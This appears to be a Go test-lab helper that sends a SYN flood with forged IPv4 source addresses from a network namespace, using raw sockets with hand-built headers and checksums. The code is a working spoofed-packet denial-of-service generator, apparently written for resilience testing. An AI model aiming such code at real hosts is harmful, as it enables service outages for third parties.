// SPDX-License-Identifier: Apache-2.0

package lab

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// Flood describes a SYN flood sent from a namespace with forged sources.
type Flood struct {
	// Dst is the target address and port, e.g. a published port.
	Dst netip.AddrPort
	// Sources are drawn at random from this prefix (and source ports from
	// 1024-65535). Pick one that the sending namespace does not route
	// back, such as 198.18.0.0/15 (RFC 2544's benchmarking range), so the
	// target's answers go nowhere.
	Sources netip.Prefix
	// Count is how many SYNs to send; the flood is bounded by it and by
	// the context.
	Count int
	// Burst SYNs are sent back to back, then the sender sleeps Pause
	// (default 1000 and 0: as fast as the socket takes them).
	Burst int
	Pause time.Duration
	// Started, if not nil, is closed once half of Count is sent, so a test
	// can act in the middle of the flood.
	Started chan struct{}
}

// FloodResult is what a flood sent.
type FloodResult struct {
	Sent    int
	Elapsed time.Duration
}

// Rate is SYNs sent per second.
func (r FloodResult) Rate() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Sent) / r.Elapsed.Seconds()
}

// FloodSYN sends f's SYNs from the namespace through a raw IPv4 socket
// (IPPROTO_RAW, so IP_HDRINCL: the headers, forged source included, are
// written here). Only IPv4 destinations and sources are supported.
func (n *Namespace) FloodSYN(ctx context.Context, f Flood) (FloodResult, error) {
	if !f.Dst.Addr().Is4() || !f.Sources.Addr().Is4() || f.Sources.Bits() > 31 {
		return FloodResult{}, fmt.Errorf("flood %s from %s: want an IPv4 target and an IPv4 source range of 2 addresses or more", f.Dst, f.Sources)
	}
	var fd int
	err := n.Do(func() error {
		var err error
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
		return err
	})
	if err != nil {
		return FloodResult{}, fmt.Errorf("raw socket in namespace %s: %w", n.Name, err)
	}
	defer unix.Close(fd)
	burst := f.Burst
	if burst <= 0 {
		burst = 1000
	}
	base := binary.BigEndian.Uint32(f.Sources.Masked().Addr().AsSlice())
	hosts := uint32(1) << (32 - f.Sources.Bits())
	dst := f.Dst.Addr().As4()
	to := &unix.SockaddrInet4{Addr: dst}
	rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 0x5f1d))
	pkt := make([]byte, 40)
	start := time.Now()
	half := f.Count / 2
	res := FloodResult{}
	for res.Sent < f.Count {
		if err := ctx.Err(); err != nil {
			break
		}
		for i := 0; i < burst && res.Sent < f.Count; i++ {
			src := base + 1 + rng.Uint32N(hosts-2) // neither network nor broadcast address
			synPacket(pkt, src, dst, uint16(1024+rng.IntN(65535-1024)), f.Dst.Port(), rng.Uint32())
			if err := unix.Sendto(fd, pkt, 0, to); err != nil {
				if err == unix.ENOBUFS || err == unix.EAGAIN {
					continue
				}
				res.Elapsed = time.Since(start)
				return res, fmt.Errorf("sending SYN %d: %w", res.Sent, err)
			}
			res.Sent++
			if res.Sent == half && f.Started != nil {
				close(f.Started)
				f.Started = nil
			}
		}
		if f.Pause > 0 {
			time.Sleep(f.Pause)
		}
	}
	res.Elapsed = time.Since(start)
	if f.Started != nil {
		close(f.Started)
	}
	return res, nil
}

// synPacket writes a 40-byte IPv4 TCP SYN into b.
func synPacket(b []byte, src uint32, dst [4]byte, sport, dport uint16, seq uint32) {
	clear(b)
	b[0] = 0x45
	binary.BigEndian.PutUint16(b[2:], 40)
	b[8] = 64
	b[9] = unix.IPPROTO_TCP
	binary.BigEndian.PutUint32(b[12:], src)
	copy(b[16:20], dst[:])
	binary.BigEndian.PutUint16(b[10:], ^fold(sum(b[:20], 0)))
	t := b[20:]
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dport)
	binary.BigEndian.PutUint32(t[4:], seq)
	t[12] = 5 << 4
	t[13] = 0x02 // SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	// Pseudo-header: addresses, protocol, TCP length.
	s := sum(b[12:20], uint32(unix.IPPROTO_TCP)+20)
	binary.BigEndian.PutUint16(t[16:], ^fold(sum(t, s)))
}

func sum(b []byte, s uint32) uint32 {
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	return s
}

func fold(s uint32) uint16 {
	for s > 0xffff {
		s = s&0xffff + s>>16
	}
	return uint16(s)
}
